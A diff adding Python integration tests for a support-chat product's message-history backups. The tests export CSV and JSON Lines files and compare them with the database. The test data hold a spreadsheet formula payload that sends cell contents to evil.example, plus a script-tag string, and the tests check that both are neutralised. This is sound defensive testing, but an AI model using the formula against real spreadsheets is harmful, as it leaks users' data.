@@ -1,0 +1,224 @@
+"""Consultation history backups (SPEC EXP-1..6, CHAT-19; DESIGN section 10's
+/a/CODE/backups): a member starts a backup, the worker writes it, the page shows
+its progress, the file is downloaded through nginx; its content is read back with
+Python's csv, json and zipfile modules and compared with the database."""
+
+import csv
+import hashlib
+import io
+import json
+import re
+import secrets
+import time
+import zipfile
+
+from client import File
+from testlib import expect, expect_status, expect_see_other
+from test_inbox import Agent, sql_text, one
+from test_talk import Customer, PDF, png_bytes
+
+HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"보기")'
+HOSTILE_HTML = '<script>alert("백업")</script>'
+TEXTS = [
+    "안녕하세요, 주문한 상품이 아직 안 왔어요 😢",
+    "줄바꿈\n두 번째 줄\r\n세 번째 줄",
+    HOSTILE_FORMULA,
+    HOSTILE_HTML,
+    '따옴표 "인용" 과, 쉼표',
+    "+82 10-1234-5678",
+    "@멘션 -마이너스",
+]
+ATTACHMENT_NAME = "견적서 사본 (최종).pdf"
+IMAGE_NAME = "사진 😀.png"
+
+_state = {}
+
+
+def csrf_of(client, path):
+    r = client.get(path)
+    expect_status(r, 200, what="GET %s" % path)
+    return r.csrf()
+
+
+class History:
+    """An account with two members, one customer's messages (Korean, emoji, line
+    breaks, hostile text), two attachments with Korean names, and replies from both
+    members; the room and the customer carry hostile names."""
+
+    def __init__(self, s):
+        self.s = s
+        self.owner = Agent(s)
+        self.helper = Agent(s)
+        self.owner.add_member(self.helper)
+        self.code = self.owner.code
+        self.customer = Customer(s, self.code)
+        for text in TEXTS:
+            expect_status(self.customer.send(text), 303, what="customer post")
+        r = self.customer.send_file(File(ATTACHMENT_NAME, PDF, "application/pdf"), text="첨부")
+        expect_status(r, 303, what="customer file")
+        r = self.customer.send_file(File(IMAGE_NAME, png_bytes(3, 2), "image/png"))
+        expect_status(r, 303, what="customer image")
+        self.room = int(one(s, "SELECT id FROM rooms WHERE account_id = %s" % self.owner.account_id))
+        r = self.owner.send(self.room, "주인이 답합니다 ✅")
+        expect_status(r, 303, what="owner reply")
+        token = csrf_of(self.helper.client, "/a/%s/chats/%d" % (self.code, self.room))
+        r = self.helper.client.post_multipart("/a/%s/chats/%d/messages" % (self.code, self.room),
+                                              {"text": "도우미가 답합니다\n두 줄"}, None, csrf=token)
+        expect_status(r, 303, what="helper reply")
+        s.psql("UPDATE rooms SET name = %s, memo = %s WHERE id = %d"
+               % (sql_text(HOSTILE_HTML[:30]), sql_text("메모 " + HOSTILE_FORMULA), self.room))
+        s.psql("UPDATE customers SET display_name = %s WHERE account_id = %s"
+               % (sql_text(HOSTILE_FORMULA[:20]), self.owner.account_id))
+        s.psql("INSERT INTO labels (account_id, name, color) VALUES (%s, 'VIP 고객', '#ff0000')"
+               % self.owner.account_id)
+        s.psql("INSERT INTO room_labels (room_id, label_id) SELECT %d, id FROM labels "
+               "WHERE account_id = %s" % (self.room, self.owner.account_id))
+
+    def messages(self):
+        """The account's messages as the database has them, oldest first."""
+        out = self.s.psql(
+            "SELECT json_agg(json_build_object('id', m.id, 'text', m.body, 'sender', m.sender, "
+            "'email', coalesce(p.email, ''), 'utc', to_char(m.created_at AT TIME ZONE 'UTC', "
+            "'YYYY-MM-DD\"T\"HH24:MI:SS.US\"Z\"'), 'file', coalesce(f.display_name, ''), "
+            "'stored', coalesce(f.stored_name, '')) ORDER BY m.created_at, m.id) "
+            "FROM messages m LEFT JOIN partners p ON p.id = m.partner_id "
+            "LEFT JOIN attachments f ON f.id = m.attachment_id WHERE m.account_id = %s"
+            % self.owner.account_id)
+        return json.loads(out)
+
+
+def history(s):
+    if "history" not in _state:
+        _state["history"] = History(s)
+    return _state["history"]
+
+
+def start_backup(agent, fmt, frm="", to="", expect_code=303):
+    """Starts a backup from the page; returns its id."""
+    base = "/a/%s/backups" % agent.code
+    token = csrf_of(agent.client, base)
+    r = agent.client.post(base, {"format": fmt, "from": frm, "to": to}, csrf=token)
+    if expect_code != 303:
+        expect_status(r, expect_code, what="POST backups")
+        return r
+    expect_see_other(r, base, what="POST backups")
+    r = agent.client.get(base)
+    ids = [int(x) for x in re.findall(r'data-backup="(\d+)"', r.text)]
+    expect(ids, "the page lists no backup after starting one", r)
+    return max(ids)
+
+
+def status(agent, backup):
+    r = agent.client.get("/a/%s/backups/%d/status" % (agent.code, backup),
+                         headers={"Accept": "application/json"})
+    expect_status(r, 200, what="GET status")
+    return json.loads(r.text)
+
+
+def wait_done(agent, backup, seconds=120):
+    """Polls the status route until the backup ended; returns every status seen."""
+    seen = []
+    deadline = time.time() + seconds
+    while time.time() < deadline:
+        st = status(agent, backup)
+        seen.append(st)
+        if st["status"] not in ("queued", "running"):
+            return seen
+        time.sleep(0.1)
+    raise AssertionError("backup %d did not end within %ds: %r" % (backup, seconds, seen[-3:]))
+
+
+def download(agent, backup):
+    r = agent.client.get("/a/%s/backups/%d/download" % (agent.code, backup))
+    expect_status(r, 200, what="GET download")
+    return r
+
+
+def backup_bytes(agent, fmt, **period):
+    backup = start_backup(agent, fmt, **period)
+    seen = wait_done(agent, backup)
+    expect(seen[-1]["status"] == "ready", "the backup ended %r" % seen[-1])
+    return backup, download(agent, backup).body
+
+
+# ---------------------------------------------------------------------------
+
+
+def test_csv_backup_reads_back_exactly(s):
+    h = history(s)
+    backup, body = backup_bytes(h.owner, "csv")
+    expect(body.startswith(b"\xef\xbb\xbf"), "the CSV has no byte-order mark")
+    rows = list(csv.DictReader(io.StringIO(body[3:].decode("utf-8"), newline="")))
+    want = h.messages()
+    expect(len(rows) == len(want), "%d rows for %d messages" % (len(rows), len(want)))
+    for row, m in zip(rows, want):
+        text = m["text"]
+        if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            text = "'" + text
+        expect(row["text"] == text, "text %r read back as %r" % (text, row["text"]))
+        expect(row["time_utc"] == m["utc"], "time %r read back as %r" % (m["utc"], row["time_utc"]))
+        expect(row["member_email"] == m["email"], "sender %r vs %r" % (m["email"], row["member_email"]))
+        expect(row["attachment_name"] == m["file"], "file %r vs %r" % (m["file"], row["attachment_name"]))
+        expect(row["account"] == h.code, "account %r" % row["account"])
+        expect(row["sender"] == {"customer": "customer", "agent": "member",
+                                 "system": "automatic"}[m["sender"]], "sender kind %r" % row["sender"])
+    names = [r["customer_name"] for r in rows if r["sender"] == "customer"]
+    expect(all(n.startswith("'=HYPERLINK") for n in names), "the hostile name is not neutralised: %r"
+           % names[:1])
+    members = {r["member_name"] for r in rows if r["sender"] == "member"}
+    expect(members == {h.owner.name, h.helper.name}, "the members are %r" % members)
+    expect(re.match(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$", rows[0]["time_local"]),
+           "local time %r" % rows[0]["time_local"])
+
+
+def test_jsonl_backup_reads_back_exactly(s):
+    h = history(s)
+    backup, body = backup_bytes(h.owner, "jsonl")
+    lines = body.decode("utf-8").split("\n")
+    expect(lines[-1] == "", "the file does not end with a newline")
+    objects = [json.loads(line) for line in lines[:-1]]
+    want = h.messages()
+    expect(len(objects) == len(want), "%d objects for %d messages" % (len(objects), len(want)))
+    for o, m in zip(objects, want):
+        expect(o["text"] == m["text"], "text %r read back as %r" % (m["text"], o["text"]))
+        expect(o["message_id"] == m["id"] and o["time_utc"] == m["utc"], "id or time differ: %r" % o)
+        expect(o["attachment_name"] == m["file"], "file %r vs %r" % (m["file"], o["attachment_name"]))
+    expect(b"<script>" not in body, "the JSON Lines carry a raw <script> (not escaped)")
+
+
+def test_another_accounts_backup_is_404(s):
+    h = history(s)
+    backup = start_backup(h.owner, "csv")
+    wait_done(h.owner, backup)
+    other = Agent(s)
+    base = "/a/%s/backups/%d" % (other.code, backup)
+    for path in (base + "/status", base + "/download"):
+        r = other.client.get(path)
+        expect_status(r, 404, what="GET %s of another account's backup" % path)
+    token = csrf_of(other.client, "/a/%s/backups" % other.code)
+    r = other.client.post(base + "/cancel", {}, csrf=token)
+    expect_status(r, 404, what="POST cancel of another account's backup")
+    r = other.client.get("/a/%s/backups" % h.code)
+    expect_status(r, 404, what="GET another account's backups page")
+    r = other.client.get("/a/%s/backups" % other.code)
+    expect('data-backup="%d"' % backup not in r.text, "another account's backup is listed", r)
+
+
+def test_page_lists_ready_file_and_history_records_start(s):
+    h = history(s)
+    backup = start_backup(h.owner, "jsonl", frm="2020-01-01", to="2099-12-31")
+    wait_done(h.owner, backup)
+    r = h.owner.client.get("/a/%s/backups" % h.code)
+    expect('href="/a/%s/backups/%d/download"' % (h.code, backup) in r.text,
+           "the ready backup has no download link", r)
+    expect('href="/a/%s/backups"' % h.code in r.text, "no refresh link without JavaScript", r)
+    expect("<progress" in r.text, "no progress bar", r)
+    n = one(s, "SELECT count(*) FROM account_history WHERE account_id = %s AND menu = 'backups' "
+               "AND action = 'backup_start'" % h.owner.account_id)
+    expect(int(n) >= 1, "starting a backup wrote no history entry")
+    token = csrf_of(h.owner.client, "/a/%s/backups" % h.code)
+    r = h.owner.client.post("/a/%s/backups" % h.code, {"format": "csv", "from": "2024-05-02",
+                                                      "to": "2024-05-01"}, csrf=token)
+    expect_status(r, 422, what="POST backups with the end before the start")
+    r = h.owner.client.post("/a/%s/backups" % h.code, {"format": "exe"}, csrf=token)
+    expect_status(r, 422, what="POST backups with an unknown format")
